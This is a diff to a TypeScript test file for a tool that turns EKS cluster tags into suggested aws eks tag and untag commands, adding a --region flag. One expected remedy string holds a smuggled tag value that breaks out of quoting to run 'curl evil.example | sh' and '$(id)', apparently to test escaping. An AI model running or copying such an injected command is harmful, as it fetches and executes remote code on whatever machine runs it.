@@ -86,8 +86,10 @@ describe("reading the tags of a cluster", () => {
   });
 
   const arn = "arn:aws:eks:eu-west-1:111122223333:cluster/demo";
-  const tagged = (pair: string) => `aws eks tag-resource --resource-arn ${arn} --tags ${pair}`;
-  const untagged = (key: string) => `aws eks untag-resource --resource-arn ${arn} --tag-keys ${key}`;
+  const tagged = (pair: string) =>
+    `aws eks tag-resource --resource-arn ${arn} --tags ${pair} --region eu-west-1`;
+  const untagged = (key: string) =>
+    `aws eks untag-resource --resource-arn ${arn} --tag-keys ${key} --region eu-west-1`;
 
   it.each([
     ["Enable_Cilium", "enable_cilium"],
@@ -141,7 +143,7 @@ describe("reading the tags of a cluster", () => {
       arn,
     ).tagObjections;
     expect(objection?.remedy).toContain(
-      `--tags 'cilium_version=1.19'\\''; curl evil.example | sh; '\\''$(id)' && `,
+      `--tags 'cilium_version=1.19'\\''; curl evil.example | sh; '\\''$(id)' --region eu-west-1 && `,
     );
   });
 
